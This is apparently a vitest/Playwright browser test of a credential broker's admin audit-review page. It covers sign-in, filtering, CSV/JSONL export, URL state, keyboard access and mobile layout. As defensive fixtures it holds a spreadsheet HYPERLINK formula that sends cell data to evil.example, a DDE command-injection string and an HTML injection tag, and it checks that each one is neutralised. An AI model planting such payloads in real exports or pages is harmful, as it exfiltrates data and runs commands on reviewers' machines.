// The review page in a real browser: Chromium (the Debian package) driven by playwright-core loads /admin/
// from a running broker with a day of records in it, signs in with the admin token, filters to denials,
// opens one, and saves screenshots (test-results/admin.png: the filtered table; admin-detail.png: a record).
// Then the reviewer's question (issue 19): "which repositories and workflows received AWS credentials for a
// production role in the last 7 days", answered and exported from the page alone, at 1280 and 390 px
// (test-results/admin-review-1280.png, admin-review-390.png), with the view in the URL and the back button.
// Outside CI the test is skipped when /usr/bin/chromium is missing; in CI (CI=true) it always runs.
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { startNodeBroker, type RunningBroker } from '../../broker/entry/node.ts';
import type { AuditRecord } from '../../broker/src/audit/record.ts';
import { parseCsv } from '../helpers/csv.ts';
import { generateIssuerKey, serveTestIssuer, signTestToken, type IssuerKey, type TestIssuerServer } from '../../cli/lib/test-issuer.ts';

const CHROMIUM = '/usr/bin/chromium';
const available = existsSync(CHROMIUM);
const inCi = process.env.CI === 'true';
if (!available && !inCi) {
  console.warn(
    `admin-browser.test.ts skipped: ${CHROMIUM} is missing (apt-get install -y chromium). In CI (CI=true) it runs, and fails without it.`,
  );
}

const AUD = 'https://broker.review.test';
const TOKEN = 'browser-admin-0123456789abcdefghijklmnop';
const OUT = resolve(import.meta.dirname, '../../test-results');

let dir: string;
let key: IssuerKey;
let issuer: TestIssuerServer;
let broker: RunningBroker;
let browser: Browser;
const clock = { now: Date.now() - 23 * 3_600_000 };
const outcomes = { allow: 0, deny: 0 };

const WEB = {
  repository: 'acme/web',
  repository_id: '42',
  repository_owner: 'acme',
  repository_owner_id: '7',
  ref: 'refs/heads/main',
  environment: 'production',
  event_name: 'push',
  runner_environment: 'github-hosted',
  actor: 'alice',
  run_id: '9001',
};
const API = { ...WEB, repository: 'acme/api', repository_id: '43', actor: 'bob' };

async function exchange(claims: Record<string, unknown>, role: string, opts: { aud?: string; ageS?: number } = {}): Promise<void> {
  const now = Math.floor(clock.now / 1000) - (opts.ageS ?? 0);
  const token = await signTestToken(
    key,
    { iss: issuer.url, aud: opts.aud ?? AUD, sub: `repo:${claims.repository}:ref:${claims.ref}`, ...claims },
    { now },
  );
  const res = await fetch(`${broker.url}/v1/exchange`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'user-agent': 'secret-broker-action/1.0 (github-actions)' },
    body: JSON.stringify({ token, role }),
  });
  await res.arrayBuffer();
  outcomes[res.status === 200 ? 'allow' : 'deny']++;
}

/** A day of traffic: deployments, config reads, and refusals of several kinds. */
async function seed(): Promise<void> {
  for (let i = 0; i < 36; i++) {
    clock.now += (25 + ((i * 7) % 20)) * 60_000;
    const run = { run_id: String(9000 + i) };
    switch (i % 9) {
      case 0:
      case 3:
      case 6:
        await exchange({ ...WEB, ...run }, 'deploy-web-prod');
        break;
      case 1:
        await exchange({ ...API, ...run }, 'read-config');
        break;
      case 2:
        await exchange({ ...WEB, ...run, ref: 'refs/heads/feature/login', environment: 'preview' }, 'deploy-web-prod');
        break;
      case 4:
        await exchange({ ...WEB, ...run, event_name: 'pull_request_target', ref: 'refs/pull/17/merge' }, 'deploy-web-prod');
        break;
      case 5:
        await exchange({ ...API, ...run }, i % 2 ? 'deploy-api-prod' : 'read-config');
        break;
      case 7:
        await exchange({ ...WEB, ...run }, 'deploy-web-prod', { aud: 'https://elsewhere.example' });
        break;
      case 8:
        await exchange({ ...API, ...run, repository: 'contractor/fork', repository_id: '999' }, 'read-config');
        break;
    }
  }
  clock.now = Date.now();
}

const DAY = 86_400_000;
const HOSTILE_ACTOR = '=HYPERLINK("https://evil.example/?"&A1,"open")';
const HOSTILE_WORKFLOW = "+cmd|' /C calc'!A0";
const HOSTILE_ENV = '<img src=x id=injected>';
/** AWS exchanges of the last ten days, before the day of live traffic: what the reviewer asks about. */
const AWS_HISTORY: {
  daysAgo: number;
  role: string;
  repo: string;
  workflow: string;
  outcome: 'allow' | 'deny' | 'error';
  arn: string;
  actor?: string;
  env?: string;
}[] = [
  {
    daysAgo: 9.5,
    role: 'deploy-web-prod',
    repo: 'acme/legacy',
    workflow: 'acme/legacy/.github/workflows/old.yml@refs/heads/main',
    outcome: 'allow',
    arn: 'arn:aws:iam::111122223333:role/web-prod',
  },
  {
    daysAgo: 6.5,
    role: 'deploy-web-prod',
    repo: 'acme/web',
    workflow: 'acme/ci/.github/workflows/deploy.yml@refs/heads/main',
    outcome: 'allow',
    arn: 'arn:aws:iam::111122223333:role/web-prod',
  },
  {
    daysAgo: 5.2,
    role: 'deploy-web-staging',
    repo: 'acme/web',
    workflow: 'acme/ci/.github/workflows/staging.yml@refs/heads/main',
    outcome: 'allow',
    arn: 'arn:aws:iam::444455556666:role/web-staging',
  },
  {
    daysAgo: 4.1,
    role: 'deploy-api-prod',
    repo: 'acme/api',
    workflow: 'acme/api/.github/workflows/release.yml@refs/tags/v2.1.0',
    outcome: 'allow',
    arn: 'arn:aws:iam::111122223333:role/api-prod',
  },
  {
    daysAgo: 3.3,
    role: 'deploy-api-prod',
    repo: 'acme/api',
    workflow: 'acme/api/.github/workflows/release.yml@refs/tags/v2.1.0',
    outcome: 'error',
    arn: 'arn:aws:iam::111122223333:role/api-prod',
  },
  {
    daysAgo: 2.8,
    role: 'deploy-web-prod',
    repo: 'acme/web',
    workflow: 'acme/ci/.github/workflows/deploy.yml@refs/heads/main',
    outcome: 'allow',
    arn: 'arn:aws:iam::111122223333:role/web-prod',
  },
  {
    daysAgo: 2.2,
    role: 'deploy-web-prod',
    repo: 'contractor/fork',
    workflow: 'contractor/fork/.github/workflows/deploy.yml@refs/heads/main',
    outcome: 'deny',
    arn: '',
  },
  {
    daysAgo: 1.6,
    role: 'deploy-infra-prod',
    repo: 'acme/infra',
    workflow: HOSTILE_WORKFLOW,
    outcome: 'allow',
    arn: 'arn:aws:iam::111122223333:role/infra-prod',
    actor: HOSTILE_ACTOR,
    env: HOSTILE_ENV,
  },
  {
    daysAgo: 1.2,
    role: 'deploy-web-prod',
    repo: 'acme/web',
    workflow: 'acme/ci/.github/workflows/hotfix.yml@refs/heads/main',
    outcome: 'allow',
    arn: 'arn:aws:iam::111122223333:role/web-prod',
  },
];
/** The answer, from the seed: repositories and workflows with an allowed AWS credential for a *prod* role in 7 days. */
const ANSWER = [
  ...new Set(
    AWS_HISTORY.filter((h) => h.daysAgo <= 7 && h.outcome === 'allow' && h.role.includes('prod')).map((h) => `${h.repo} ${h.workflow}`),
  ),
].sort();

async function seedAwsHistory(): Promise<void> {
  const now = Date.now();
  for (const [i, h] of AWS_HISTORY.entries()) {
    const time = new Date(now - h.daysAgo * DAY).toISOString();
    const allowed = h.outcome === 'allow';
    const record: AuditRecord = {
      time,
      request_id: `01AWSHISTORY${String(i).padStart(14, '0')}`,
      action: 'exchange',
      decision: allowed ? 'allow' : 'deny',
      code: allowed ? 'OK' : h.outcome === 'error' ? 'ERR_UPSTREAM' : 'ERR_ACCESS_DENIED',
      reason: allowed ? 'allowed' : h.outcome === 'error' ? 'aws.http_403:AccessDenied' : 'policy.no_allow_matched',
      status: allowed ? 200 : h.outcome === 'error' ? 502 : 403,
      role: h.role,
      issuer: issuer.url,
      subject: `repo:${h.repo}:environment:production`,
      identity: {
        repository: h.repo,
        repository_id: String(100 + i),
        ref: 'refs/heads/main',
        environment: h.env ?? 'production',
        event_name: 'push',
        job_workflow_ref: h.workflow,
        actor: h.actor ?? 'carol',
        run_id: String(7000 + i),
      },
      jti: `jti-${i}`,
      token_sha256: 'a'.repeat(64),
      client_ip: '192.0.2.10',
      user_agent: 'secret-broker-action/1.0',
      credentials: allowed ? [{ type: 'aws', target: h.arn, expires_at: new Date(Date.parse(time) + 900_000).toISOString() }] : [],
      policy_hash: broker.deps.policy().hash,
    };
    await broker.deps.auditor.append(record);
  }
}

beforeAll(async () => {
  if (!available && !inCi) return;
  dir = mkdtempSync(join(tmpdir(), 'sb-admin-browser-'));
  key = await generateIssuerKey();
  issuer = await serveTestIssuer(key);
  const pol = join(dir, 'policies');
  mkdirSync(join(pol, 'roles'), { recursive: true });
  writeFileSync(join(pol, 'issuers.yaml'), `issuers:\n  github:\n    url: ${issuer.url}\n    audience: ${AUD}\n`);
  writeFileSync(
    join(pol, 'roles/deploy-web-prod.yaml'),
    `role: deploy-web-prod\nissuer: github\nmax_ttl: 15m\nallow:\n  - repository_id: "42"\n    repository_owner_id: "7"\n    ref: refs/heads/main\n    environment: production\n` +
      `deny:\n  - event_name: [pull_request_target, workflow_run]\ngrants:\n  - type: secret\n    name: DEPLOY_KEY\n`,
  );
  writeFileSync(
    join(pol, 'roles/read-config.yaml'),
    `role: read-config\nissuer: github\nmax_ttl: 10m\nallow:\n  - repository_id: ["42", "43"]\n    repository_owner_id: "7"\ngrants:\n  - type: secret\n    name: APP_CONFIG\n`,
  );
  broker = await startNodeBroker({
    policiesDir: pol,
    dataDir: join(dir, 'data'),
    port: 0,
    host: '127.0.0.1',
    env: { BROKER_ADMIN_TOKEN: TOKEN, BROKER_AUDIT_CHECKPOINT_RECORDS: '10' },
    dev: true,
    now: () => clock.now,
    log: () => {},
  });
  await broker.vault.put('DEPLOY_KEY', 'deploy-key-value', Math.floor(clock.now / 1000));
  await broker.vault.put('APP_CONFIG', 'config-value', Math.floor(clock.now / 1000));
  await seedAwsHistory();
  await seed();
  await broker.checkpointer.checkpointNow();
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-quic',
      '--no-first-run',
      '--disable-component-update',
      '--disable-sync',
    ],
  });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await broker?.stop();
  await issuer?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** Fails the test on any CSP violation or script error: the page must work under its own policy. */
function watch(page: Page): string[] {
  const problems: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error') problems.push(m.text());
  });
  page.on('pageerror', (e) => problems.push(String(e)));
  return problems;
}

describe.skipIf(!available && !inCi)('/admin/ in Chromium', () => {
  it('refuses a wrong token and keeps asking', async () => {
    const page = await browser.newPage();
    await page.goto(`${broker.url}/admin/`);
    await page.fill('#token', 'not-the-admin-token-at-all-0000');
    await page.click('#login-form button[type=submit]');
    await page.waitForSelector('#login-error:not([hidden])');
    expect(await page.textContent('#login-error')).toMatch(/refused this token/);
    expect(await page.isVisible('#app')).toBe(false);
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    await page.close();
  });

  it('signs in, shows the summary, filters to denials, opens a record, and saves screenshots', async () => {
    const page = await browser.newPage({ viewport: { width: 1400, height: 1000 }, deviceScaleFactor: 1 });
    const problems = watch(page);
    await page.goto(`${broker.url}/admin/`);
    await page.fill('#token', TOKEN);
    await page.click('#login-form button[type=submit]');
    await page.waitForSelector('#rows tr');

    // The summary of the last 24 hours: counts, deny reasons and the chart.
    expect(Number(await page.textContent('#n-allow'))).toBe(outcomes.allow);
    expect(Number(await page.textContent('#n-deny'))).toBe(outcomes.deny);
    expect(await page.locator('#chart svg rect').count()).toBeGreaterThan(10);
    expect(await page.textContent('#reasons')).toContain('policy.deny_matched');
    expect(await page.textContent('#chain')).toMatch(/Chain head #\d+ · ✓ signed checkpoint #\d+/);

    await page.selectOption('#f-decision', 'deny');
    await page.click('#filters button[type=submit]');
    await page.waitForFunction((n) => {
      const badges = [...document.querySelectorAll('#rows tr .badge')].map((b) => b.textContent);
      return badges.length === n && badges.every((b) => b === 'deny');
    }, outcomes.deny);
    mkdirSync(OUT, { recursive: true });
    await page.screenshot({ path: join(OUT, 'admin.png'), fullPage: true });

    // Open the refusal by the deny rule: its claims, the policy trace, no credentials.
    await page.locator('#rows tr', { hasText: 'policy.deny_matched' }).first().click();
    await page.waitForSelector('dialog#detail[open]');
    const detail = (await page.textContent('#d-body'))!;
    expect(detail).toContain('Verified identity');
    expect(detail).toContain('pull_request_target');
    expect(detail).toContain('acme/web');
    expect(detail).toContain('deny[0] matched: a deny rule refused this identity');
    expect(detail).toContain('None handed out.');
    expect(detail).not.toContain('deploy-key-value');
    await page.screenshot({ path: join(OUT, 'admin-detail.png') });
    await page.click('#d-close');

    // Back to everything: an allowed record carries its credential summary.
    await page.selectOption('#f-decision', 'allow');
    await page.click('#filters button[type=submit]');
    await page.waitForFunction(() => [...document.querySelectorAll('#rows tr .badge')].every((b) => b.textContent === 'allow'));
    await page.locator('#rows tr').first().click();
    await page.waitForSelector('dialog#detail[open]');
    expect(await page.textContent('#d-body')).toMatch(/secret\s*(DEPLOY_KEY|APP_CONFIG)/);
    expect(await page.textContent('#d-body')).toContain('allow[0] matched: every condition held');

    expect(problems).toEqual([]);
    // The page's queries were audited like any other.
    const queries = (await broker.deps.auditor.store.list({ descending: true, limit: 5 })).map((e) => JSON.parse(e.record));
    expect(queries[0]).toMatchObject({ action: 'admin_query', query: { decision: 'allow', since: '24h' } });
    await page.close();
  });

  /** Signs in on a fresh page of its own context (downloads accepted), at the given width. */
  async function signedIn(width: number, path = '/admin/'): Promise<{ page: Page; problems: string[] }> {
    const context = await browser.newContext({ viewport: { width, height: 900 }, deviceScaleFactor: 1, acceptDownloads: true });
    const page = await context.newPage();
    const problems = watch(page);
    await page.goto(`${broker.url}${path}`);
    await page.fill('#token', TOKEN);
    await page.click('#login-form button[type=submit]');
    await page.waitForSelector('#app:not([hidden])');
    return { page, problems };
  }

  /** Waits for a query to finish (the status line is emptied when a response is shown). */
  const settled = (page: Page) => page.waitForFunction(() => document.getElementById('status')?.textContent === '');

  const shownAnswer = (page: Page) =>
    page.evaluate(() =>
      [...document.querySelectorAll('#rows tr')].map((tr) => {
        const cells = [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '');
        return { repo: cells[3], workflow: cells[4], decision: cells[1], creds: cells[7] };
      }),
    );

  async function download(page: Page, button: string): Promise<string> {
    const [dl] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
    return readFileSync((await dl.path())!, 'utf8');
  }

  it('answers "which repositories and workflows received AWS credentials for a production role in the last 7 days", and exports it', async () => {
    const { page, problems } = await signedIn(1280);
    await settled(page);
    // From the page alone: the window, the credential type, a glob on the role, allowed only.
    await page.selectOption('#f-since', '7d');
    await page.selectOption('#f-type', 'aws');
    await page.fill('#f-role', '*prod*');
    await page.selectOption('#f-decision', 'allow');
    await page.click('#filters button[type=submit]');
    await page.waitForFunction(() => new URLSearchParams(location.search).get('type') === 'aws');
    await settled(page);
    const rows = await shownAnswer(page);
    expect(rows.every((r) => r.decision === 'allow' && r.creds?.startsWith('aws arn:aws:iam::111122223333:'))).toBe(true);
    expect([...new Set(rows.map((r) => `${r.repo} ${r.workflow}`))].sort()).toEqual(ANSWER);
    // The per-role view says the same per role: who, from which workflows, last use.
    const roles = await page.locator('#roles tr').allTextContents();
    expect(roles.map((r) => r.match(/deploy-[a-z]+-prod/)?.[0]).sort()).toEqual([
      'deploy-api-prod',
      'deploy-infra-prod',
      'deploy-web-prod',
    ]);
    expect(await page.textContent('#roles')).toContain('acme/ci/.github/workflows/deploy.yml@refs/heads/main');
    expect(await page.textContent('#roles')).not.toContain('acme/legacy');
    expect(await page.textContent('#roles')).not.toContain('staging');
    // Hostile claim values are text: nothing was parsed as HTML.
    expect(await page.textContent('#rows')).toContain(HOSTILE_ENV);
    expect(await page.locator('#injected').count()).toBe(0);
    mkdirSync(OUT, { recursive: true });
    await page.screenshot({ path: join(OUT, 'admin-review-1280.png'), fullPage: true });

    // The export is the filtered view, every page of it: JSON lines and CSV.
    const jsonl = (await download(page, '#export-jsonl'))
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(jsonl).toHaveLength(rows.length);
    expect([...new Set(jsonl.map((l) => `${l.record.identity.repository} ${l.record.identity.job_workflow_ref}`))].sort()).toEqual(ANSWER);
    const csv = await download(page, '#export-csv');
    const [header, ...cells] = parseCsv(csv) as [string[], ...string[][]];
    const col = (name: string) => header.indexOf(name);
    expect(cells).toHaveLength(rows.length);
    expect([...new Set(cells.map((c) => `${c[col('identity')]} ${c[col('workflow')]!.replace(/^'/, '')}`))].sort()).toEqual(ANSWER);
    // CSV injection: the hostile workflow and actor are defused with a leading apostrophe.
    const infra = cells.find((c) => c[col('identity')] === 'acme/infra')!;
    expect(infra[col('workflow')]).toBe(`'${HOSTILE_WORKFLOW}`);
    expect(infra[col('actor')]).toBe(`'${HOSTILE_ACTOR}`);
    expect(cells.every((c) => c.every((v) => !/^[=+\-@]/.test(v)))).toBe(true);
    expect(await page.textContent('#status')).toMatch(/Exported \d+ records as CSV/);
    expect(problems).toEqual([]);
    await page.context().close();
  });

  it('keeps the view in the URL: shareable, and the back button steps through views', async () => {
    const shared = '/admin/?since=7d&type=aws&role=*prod*&decision=allow';
    const { page, problems } = await signedIn(1280, shared);
    await settled(page);
    expect(await page.inputValue('#f-role')).toBe('*prod*');
    expect(await page.inputValue('#f-type')).toBe('aws');
    expect(await page.inputValue('#f-since')).toBe('7d');
    const answer = await shownAnswer(page);
    expect([...new Set(answer.map((r) => `${r.repo} ${r.workflow}`))].sort()).toEqual(ANSWER);

    // A role from the per-role view narrows the view; a second change; back twice returns to the shared view.
    await page.locator('#roles button', { hasText: 'deploy-api-prod' }).click();
    await page.waitForFunction(() => new URLSearchParams(location.search).get('role') === 'deploy-api-prod');
    await settled(page);
    expect((await shownAnswer(page)).map((r) => r.repo)).toEqual(['acme/api']);
    await page.selectOption('#f-decision', '');
    await page.selectOption('#f-type', '');
    await page.click('#filters button[type=submit]');
    await page.waitForFunction(() => !new URLSearchParams(location.search).has('decision'));
    await settled(page);
    // The upstream failure counts as an error, not a denial (the live traffic's refusals are denials).
    const decisions = (await shownAnswer(page)).map((r) => r.decision);
    expect(decisions.filter((d) => d === 'error')).toHaveLength(1);
    expect(await page.textContent('#n-error')).toBe('1');
    expect(Number(await page.textContent('#n-deny'))).toBe(decisions.filter((d) => d === 'deny').length);
    await page.goBack();
    await page.waitForFunction(() => new URLSearchParams(location.search).get('decision') === 'allow');
    await settled(page);
    expect(await page.inputValue('#f-decision')).toBe('allow');
    expect(await page.inputValue('#f-role')).toBe('deploy-api-prod');
    await page.goBack();
    await page.waitForFunction(() => new URLSearchParams(location.search).get('role') === '*prod*');
    await settled(page);
    expect(await page.inputValue('#f-role')).toBe('*prod*');
    expect((await shownAnswer(page)).length).toBe(answer.length);
    // "Everything" survives a reload as an explicit value, not the 24 h default.
    await page.selectOption('#f-since', '');
    await page.click('#filters button[type=submit]');
    await page.waitForFunction(() => new URLSearchParams(location.search).get('since') === 'all');
    await page.reload();
    await page.waitForSelector('#app:not([hidden])');
    expect(await page.inputValue('#f-since')).toBe('');
    expect(problems).toEqual([]);
    await page.context().close();
  });

  it('is reachable by keyboard: filters, exports, the per-role view and a record open without a mouse', async () => {
    const { page, problems } = await signedIn(1280, '/admin/?since=7d&type=aws');
    await settled(page);
    const reached = new Set<string>();
    let opened = false;
    for (let i = 0; i < 80 && !opened; i++) {
      await page.keyboard.press('Tab');
      const where = await page.evaluate(() => {
        const a = document.activeElement as HTMLElement | null;
        if (!a) return '';
        if (a.id) return `#${a.id}`;
        if (a.closest('#roles')) return 'role';
        if (a.closest('#rows')) return 'record';
        if (a.closest('#reasons')) return 'reason';
        return a.tagName;
      });
      reached.add(where);
      if (where === 'record') {
        await page.keyboard.press('Enter');
        await page.waitForSelector('dialog#detail[open]');
        opened = true;
      }
    }
    for (const id of [
      '#f-since',
      '#f-type',
      '#f-role',
      '#f-workflow',
      '#f-environment',
      '#f-reset',
      '#export-jsonl',
      '#export-csv',
      'role',
      'record',
    ])
      expect(reached, id).toContain(id);
    expect(opened).toBe(true);
    await page.keyboard.press('Escape');
    expect(await page.locator('dialog#detail[open]').count()).toBe(0);
    expect(problems).toEqual([]);
    await page.context().close();
  });

  it('is legible at 390 px: filters two to a row, rows as labelled cards, nothing wider than the screen', async () => {
    const { page, problems } = await signedIn(390, '/admin/?since=7d&type=aws&role=*prod*&decision=allow');
    await settled(page);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    const label = await page.evaluate(() => getComputedStyle(document.querySelector('#rows td')!, '::before').content);
    expect(label).toBe('"Time"');
    const box = await page.locator('#f-role').boundingBox();
    expect(box!.width).toBeGreaterThan(120);
    await page.screenshot({ path: join(OUT, 'admin-review-390.png'), fullPage: true });
    // The full page is tall; the top (filters, counts) and the answer (roles, records) at their real size too.
    await page.screenshot({ path: join(OUT, 'admin-review-390-top.png') });
    await page.locator('#roles-card').scrollIntoViewIfNeeded();
    await page.evaluate(() => document.getElementById('roles-card')!.scrollIntoView());
    await page.screenshot({ path: join(OUT, 'admin-review-390-answer.png') });
    expect(problems).toEqual([]);
    await page.context().close();
  });
});
